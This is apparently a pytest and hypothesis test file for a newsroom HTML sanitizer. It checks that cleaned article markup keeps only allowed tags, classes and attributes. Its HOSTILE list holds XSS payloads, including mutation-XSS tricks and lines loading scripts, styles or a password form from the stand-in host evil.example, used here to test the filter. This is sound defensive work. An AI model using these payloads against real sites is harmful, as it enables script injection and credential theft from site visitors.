from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from newsroom.html import (
    COPY_ATTRIBUTES,
    COPY_CLASSES,
    COPY_TAGS,
    clean_copy,
    paragraphs_to_copy,
    words_of,
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<p onclick='alert(1)'>w</p>",
    "<p/onmouseover=alert(1)>w</p>",
    '<p style="background:url(javascript:alert(1))">w</p>',
    '<a href="javascript:alert(1)">w</a>',
    '<a href=" &#106;avascript:alert(1)">w</a>',
    '<a href="java\nscript:alert(1)">w</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">w</a>',
    '<a href="vbscript:x">w</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>w</text></a></svg>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<img src=x onerror="alert(1)">',
    '<video src="x" onloadstart="alert(1)"></video>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)>"
    "</style></annotation-xml></math>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p title='w' lang='ur'>w</p><h2 title='w'>w</h2>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><p>w</p>",
    '<div data-embed="javascript:alert(1)"></div>',
    '<figure data-picture="7&quot; onclick=&quot;alert(1)"></figure>',
    '<p class="card front-lead" id="main">w</p>',
    "<details open ontoggle=alert(1)>w</details>",
    '<a href="https://good.example" target="_blank" ping="https://evil.example">w</a>',
    "\x00<scr\x00ipt>alert(1)</script>",
]


class Allowed(HTMLParser):
    """Collects what is left that our allow-list does not have."""

    def __init__(self, markup: str):
        super().__init__(convert_charrefs=True)
        self.strange: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag not in COPY_TAGS:
            self.strange.append(f"<{tag}>")
        for name, value in attrs:
            if name == "class":
                self.strange += set((value or "").split()) - COPY_CLASSES.get(tag, set())
            elif name not in COPY_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set()):
                self.strange.append(f"{tag}[{name}]")
            elif name in ("href", "data-embed"):
                scheme = "".join((value or "").split()).partition(":")[0].lower()
                if scheme in ("javascript", "data", "vbscript"):
                    self.strange.append(value)

    def handle_comment(self, data):
        self.strange.append("<!--")

    handle_decl = handle_pi = unknown_decl = handle_comment


@pytest.mark.parametrize("dirty", HOSTILE)
def test_hostile_markup_is_not_let_in(dirty):
    for markup in (dirty, f"<p>before {dirty} after</p>", f"<table><tr><td>{dirty}", dirty * 3):
        assert Allowed(clean_copy(markup)).strange == []


@pytest.mark.parametrize("dirty", HOSTILE)
def test_cleaning_twice_changes_nothing_more(dirty):
    once = clean_copy(dirty)
    assert clean_copy(once) == once


PIECES = st.lists(
    st.sampled_from(
        [*HOSTILE, "<p>", "</p>", "<svg>", "</svg>", "<math>", "<style>", "</style>", "<table>",
         "<mtext>", "<!--", "-->", '"', "'", "<a href='", ">", "&lt;img src=x onerror=a&gt;", "w"]
    ),
    max_size=8,
).map("".join)  # fmt: skip


@pytest.mark.parametrize(
    "dirty", ["<a><table><a><aside>", "<p>a&#13;b</p>", "<strong><em></em></strong>", "<p class=x>"]
)
def test_broken_html_is_mended_once_and_for_all(dirty):
    assert clean_copy(clean_copy(dirty)) == clean_copy(dirty)


def test_marks_round_nothing_are_left_out():
    assert clean_copy('<p>a<strong><em></em></strong><a name="x"></a> <em>b</em></p>') == (
        "<p>a <em>b</em></p>"
    )


def test_classes_of_others_leave_nothing_behind():
    assert clean_copy('<p class="x">a</p><div class="gallery x">b</div>') == (
        '<p>a</p><div class="gallery">b</div>'
    )


@pytest.mark.parametrize("number", ["x", "1.5", "-1", "١٢", "9" * 20])
def test_picture_or_story_that_is_no_number_is_none(number):
    dirty = f'<figure data-picture="{number}"></figure><div data-story="{number}"></div>'
    assert clean_copy(dirty) == "<figure></figure><div></div>"


@given(PIECES | st.text(max_size=60))
def test_whatever_is_pasted_only_our_blocks_are_left(dirty):
    assert Allowed(clean_copy(dirty)).strange == []


@pytest.mark.parametrize(
    "copy",
    [
        "<p>One <strong>bold</strong>, <em>stressed</em> word.</p>",
        "<h2>Between</h2><h3>Below</h3>",
        '<p><a href="https://port.example/list?a=1&amp;b=2" rel="noopener">a link</a></p>',
        '<p><a href="/city/" rel="noopener">ours</a></p>',
        '<blockquote class="pull"><p>Said.</p><footer>Who</footer></blockquote>',
        '<figure data-picture="7"></figure>',
        '<aside class="facts"><h3>Facts</h3><ul><li>One</li></ul></aside>',
        '<div data-embed="https://video.example/7"></div>',
        '<div data-story="41"></div>',
        '<div class="gallery"><figure data-picture="7"></figure></div>',
        '<table><caption>Tides</caption><tbody><tr><th scope="row">High</th>'
        '<td class="num">2.4</td></tr></tbody></table>',
        '<p dir="rtl">ساحل <bdi>MV Anum</bdi></p>',
        '<ol start="3"><li>Third</li></ol><hr>',
    ],
)
def test_our_own_blocks_stay_as_they_are(copy):
    assert clean_copy(copy) == copy


def test_what_we_do_not_print_keeps_its_words():
    assert clean_copy("<center><font color=red>Port</font> <u>closed</u></center>") == "Port closed"


def test_words_of_a_script_are_no_copy():
    assert clean_copy("<p>Port</p><script>closed()</script><style>p{}</style>") == "<p>Port</p>"


def test_words_of_copy_are_one_line_with_a_space_between_blocks():
    assert words_of("<h2>Port</h2><p>It is&nbsp;shut &amp; dark.</p><ul><li>a</li><li>b</li>") == (
        "Port It is shut & dark. a b"
    )


def test_no_space_is_put_inside_a_word():
    assert words_of("<p>H<sub>2</sub>O</p>") == "H2O"


def test_plain_paragraphs_are_words_not_markup():
    assert paragraphs_to_copy(["5 < 6 & so on", "", "“Two”"]) == (
        "<p>5 &lt; 6 &amp; so on</p>\n<p>“Two”</p>"
    )
